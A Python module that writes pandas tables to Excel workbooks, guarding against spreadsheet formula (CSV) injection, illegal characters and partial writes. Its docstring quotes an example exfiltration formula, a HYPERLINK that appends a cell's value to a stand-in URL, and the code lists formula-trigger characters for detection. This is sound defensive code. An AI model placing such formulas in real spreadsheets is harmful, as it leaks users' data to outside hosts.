"""Writing files people open elsewhere: Excel workbooks of tables, written whole or not at all.

Every cell that holds text is written as text, never as a formula, whatever it starts with: a
task title typed as `=HYPERLINK("http://x/?"&B2)` must show as those characters, not run
(OWASP's CSV injection). Control characters XML cannot hold are replaced, not a crash.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import re
from contextlib import suppress
from pathlib import Path

import pandas as pd
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

from wwlib.core.control_chars import printable
from wwlib.core.errors import ValidationError, WorkbookError

_SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
_HEADER_FILL = PatternFill("solid", fgColor="E2EFDA")  # the week's themes are green
_WIDEST = 60  # characters; longer cells wrap
# what Excel, LibreOffice or Sheets may read as the start of a formula when a cell is edited
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def write_sheets(sheets: dict[str, pd.DataFrame], path: str | Path, date_format: str) -> Path:
    """An .xlsx with one sheet per table, in order: bold frozen headers, filters, widths.

    Sheet names are made acceptable to Excel (31 characters, no []:*?/\\) and unique.
    """
    path = output_path(path, ".xlsx")
    buffer = io.BytesIO()
    taken: set[str] = set()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, frame in sheets.items():
            sheet = sheet_name(name, taken)
            writable(frame).to_excel(writer, sheet_name=sheet, index=False)
            keep_text(writer.sheets[sheet])
            _tidy(writer.sheets[sheet], frame, date_format)
    return write_whole(path, buffer.getvalue())


def sheet_name(name: str, taken: set[str] | None = None) -> str:
    """A name Excel accepts: at most 31 characters, none of []:*?/\\, not quoted, unique."""
    taken = set() if taken is None else taken
    base = _SHEET_FORBIDDEN.sub("-", printable(name)).strip("'")[:31] or "Sheet1"
    candidate, number = base, 2
    while candidate.lower() in taken:
        suffix = f" ({number})"
        candidate, number = base[: 31 - len(suffix)] + suffix, number + 1
    taken.add(candidate.lower())
    return candidate


def writable(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame with control characters in its text and headers replaced (U+FFFD).

    openpyxl refuses them (`IllegalCharacterError`): the loader keeps them out of a cohort
    folder, but text typed in the dashboard or imported may still hold one.
    """
    clean = frame.map(lambda v: printable(v) if isinstance(v, str) else v)
    clean.columns = [printable(c) if isinstance(c, str) else c for c in frame.columns]
    return clean


def keep_text(sheet) -> None:
    """Every cell of `sheet` holding text written as text, never evaluated as a formula.

    openpyxl takes a str starting with '=' for a formula; an explicit string cell (`t="s"`,
    written inline) is shown as typed. Text that starts like a formula also gets Excel's quote
    prefix, so editing the cell in Excel keeps it text. Numbers and dates are left alone.
    """
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
                if cell.value.startswith(FORMULA_STARTS):
                    cell.quotePrefix = True


def _tidy(sheet, frame: pd.DataFrame, date_format: str) -> None:
    """Bold frozen header, autofilter, widths that fit, dates shown as dates."""
    for cell in sheet[1]:
        cell.font = Font(bold=True)
        cell.fill = _HEADER_FILL
        cell.alignment = Alignment(vertical="top", wrap_text=True)
    sheet.freeze_panes = "A2"
    sheet.auto_filter.ref = sheet.dimensions
    for index, column in enumerate(frame.columns, start=1):
        values = frame[column]
        dates = any(isinstance(v, dt.date) for v in values)
        header = len(str(column)) + 3  # room for the autofilter's button
        longest = max([header] + [len(str(v)) for v in values if v is not None])
        width = 12 if dates else min(longest + 2, _WIDEST)
        letter = get_column_letter(index)
        sheet.column_dimensions[letter].width = width
        for cell in sheet[letter][1:]:
            cell.alignment = Alignment(vertical="top", wrap_text=width == _WIDEST)
            if dates:
                cell.number_format = date_format


def output_path(path: str | Path, suffix: str) -> Path:
    """The output path, checked: the right extension, not a folder."""
    path = Path(path)
    if path.suffix.lower() != suffix:
        raise ValidationError(
            "out", f"a file name ending in {suffix}", str(path), f"e.g. {path.stem}{suffix}"
        )
    if path.is_dir():
        raise ValidationError(
            "out", "a file, not a folder", str(path), f"e.g. {path}{os.sep}x{suffix}"
        )
    return path


def write_whole(path: Path, data: bytes) -> Path:
    """Write whole or not at all: a temporary file beside `path`, then moved into place."""
    tmp = path.with_name(f".{path.name}.tmp")
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        tmp.write_bytes(data)
        os.replace(tmp, path)
    except OSError as exc:
        with suppress(OSError):
            tmp.unlink(missing_ok=True)
        raise WorkbookError(
            f"{path} cannot be written ({exc.strerror or exc}); close it if it is open in "
            "Excel, Word or Outlook, or choose another folder"
        ) from None
    return path
